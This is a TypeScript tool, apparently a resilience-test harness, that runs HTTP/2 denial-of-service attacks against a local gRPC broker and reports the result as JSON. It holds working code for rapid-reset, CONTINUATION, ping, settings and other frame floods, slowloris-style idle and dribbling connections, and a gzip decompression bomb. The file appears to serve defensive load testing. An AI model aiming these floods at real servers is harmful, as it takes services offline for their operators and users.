// A process of its own, so that what an attack costs its maker does not slow the honest callers down who are
// measured beside it: `node flood-attacker.ts <kind> <port> <amount> <seconds>` prints one line of JSON.
import { connect as connectHttp2 } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { gzipSync } from 'node:zlib';

/** What became of an attack. */
export interface Attacked {
  /** Frames, bytes or connections that were sent. */
  readonly sent: number;
  /** Connections that the broker closed, and the milliseconds until the last of them was. */
  readonly closed: number;
  readonly closedMillis: number;
  /** What the broker said on the last of them, as far as it is text. */
  readonly said: string;
}

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const type = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  ping: 6,
  window: 8,
  more: 9,
};
const endHeaders = 4;
const path = '/creance.v1.SessionService/RenewSession';

function frame(kind: number, flags: number, stream: number, body: Uint8Array = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(body.length, 0, 3);
  head.writeUInt8(kind, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, body]);
}

/** A header as a literal that no table keeps (RFC 7541 §6.2.2). */
function literal(name: string, value: string): Buffer {
  const text = (each: string) => [Buffer.from([each.length]), Buffer.from(each)];
  return Buffer.concat([Buffer.from([0]), ...text(name), ...text(value)]);
}

const call = (more: Record<string, string> = {}) =>
  Buffer.concat(
    Object.entries({
      ':method': 'POST',
      ':scheme': 'http',
      ':path': path,
      ':authority': 'x',
      'content-type': 'application/grpc',
      te: 'trailers',
      ...more,
    }).map(([name, value]) => literal(name, value)),
  );
const hello = Buffer.concat([preface, frame(type.settings, 0, 0)]);
const odd = (at: number) => at * 2 + 1;
const word = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

/** The frame that comes at a place of an endless row, for each kind of flood. */
const rows: Readonly<Record<string, (at: number) => Buffer>> = {
  'rapid-reset': (at) =>
    Buffer.concat([
      frame(type.headers, endHeaders, odd(at), call()),
      frame(type.reset, 0, odd(at), word(8)),
    ]),
  continuation: (at) =>
    at === 0
      ? frame(type.headers, 0, 1, call())
      : frame(type.more, 0, 1, literal(`x-${at}`, 'y'.repeat(100))),
  'empty-continuation': (at) =>
    at === 0 ? frame(type.headers, 0, 1, call()) : frame(type.more, 0, 1),
  headers: (at) =>
    frame(
      type.headers,
      endHeaders,
      odd(at),
      Buffer.concat([
        call(),
        ...Array.from({ length: 100 }, (_, n) => literal(`x-${n}`, 'y'.repeat(100))),
      ]),
    ),
  ping: (at) => frame(type.ping, 0, 0, Buffer.concat([word(at), word(at)])),
  settings: () => frame(type.settings, 0, 0, Buffer.concat([Buffer.from([0, 4]), word(65_535)])),
  window: () => frame(type.window, 0, 0, word(1)),
  priority: (at) => frame(type.priority, 0, odd(at), Buffer.from([0, 0, 0, 0, 1])),
  'empty-data': (at) =>
    at === 0 ? frame(type.headers, endHeaders, 1, call()) : frame(type.data, 0, 1),
  giant: (at) => {
    if (at === 0) return frame(type.headers, endHeaders, 1, call());
    const body = Buffer.alloc(16_384);
    // The message that it begins is one of 100 MB.
    if (at === 1) body.writeUInt32BE(100 * 1_048_576, 1);
    return frame(type.data, 0, 1, body);
  },
};

const [, , kind = '', port = '', amount = '1', seconds = '5'] = process.argv;
const startedAt = performance.now();
const sockets: Socket[] = [];
let [sent, closed, closedMillis, said] = [0, 0, 0, ''];

async function dial(host = 2): Promise<Socket> {
  const localAddress = `127.0.${1 + Math.floor(host / 250)}.${1 + (host % 250)}`;
  const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress });
  sockets.push(socket);
  socket.on('error', () => {});
  socket.on('data', (bytes) => {
    said = bytes.toString('latin1').slice(-200);
  });
  socket.on('close', () => {
    closed += 1;
    closedMillis = performance.now() - startedAt;
  });
  await new Promise((resolve) => {
    socket.once('connect', resolve);
    socket.once('close', resolve);
  });
  return socket;
}

const pause = (millis: number) => new Promise((resolve) => setTimeout(resolve, millis));
const isOver = () => performance.now() - startedAt > Number(seconds) * 1_000;

const drained = (socket: Socket) =>
  new Promise<void>((resolve) => {
    const done = () => {
      socket.removeListener('drain', done);
      socket.removeListener('close', done);
      resolve();
    };
    socket.once('drain', done);
    socket.once('close', done);
    setTimeout(done, 500).unref();
  });

/** One connection on which frames come without end, as fast as they are taken. */
async function flood(frameAt: (at: number) => Buffer, reads: boolean): Promise<void> {
  const socket = await dial();
  if (!reads) socket.pause();
  socket.write(hello);
  while (!socket.destroyed && socket.writable && !isOver() && sent < Number(amount)) {
    const batch = Array.from({ length: 100 }, (_, at) => frameAt(sent + at));
    sent += batch.length;
    if (socket.write(Buffer.concat(batch))) await pause(0);
    else await Promise.race([drained(socket), pause(500)]);
  }
  while (!socket.destroyed && !isOver()) await pause(10);
}

/** Many connections that say nothing, or one byte of the preface every second. */
async function waiting(dribbles: boolean): Promise<void> {
  for (let at = 0; at < Number(amount); at += 100) {
    const batch = Array.from({ length: 100 }, (_, n) => dial(2 + Math.floor((at + n) / 20)));
    await Promise.all(batch);
  }
  sent = sockets.length;
  for (let at = 0; closed < sent && !isOver(); at += 1) {
    for (const socket of sockets) {
      if (dribbles && socket.writable) socket.write(preface.subarray(at, at + 1));
    }
    await pause(dribbles ? 1_000 : 50);
  }
}

/** One message that is small as it comes: so many bytes of zeros. Says the status that it is answered by. */
async function bomb(): Promise<void> {
  // Several members one after the other are one gzip (RFC 1952 §2.2), and quicker to make.
  const members = Math.max(1, Math.round(Number(amount) / 64_000_000));
  const member = gzipSync(Buffer.alloc(Number(amount) / members), { level: 9 });
  const body = Buffer.concat(Array<Buffer>(members).fill(member));
  const session = connectHttp2(`http://127.0.0.1:${port}`);
  session.on('error', () => {});
  const stream = session.request({
    ':method': 'POST',
    ':path': path,
    'content-type': 'application/grpc',
    'grpc-encoding': 'gzip',
    te: 'trailers',
  });
  stream.on('error', () => {});
  const note = (headers: Record<string, unknown>) => {
    said ||= `status ${headers['grpc-status'] ?? 'none'}`;
  };
  stream.on('response', note).on('trailers', note).resume();
  stream.end(Buffer.concat([Buffer.from([1]), word(body.length), body]));
  sent = body.length;
  while (said === '' && !isOver()) await pause(10);
}

if (kind === 'silent' || kind === 'dribble') await waiting(kind === 'dribble');
else if (kind === 'bomb') await bomb();
else
  await flood(rows[kind.replace(/-deaf$/, '')] as (at: number) => Buffer, !kind.endsWith('-deaf'));
const attacked: Attacked = { sent, closed, closedMillis, said };
process.stdout.write(`${JSON.stringify(attacked)}\n`, () => process.exit(0));
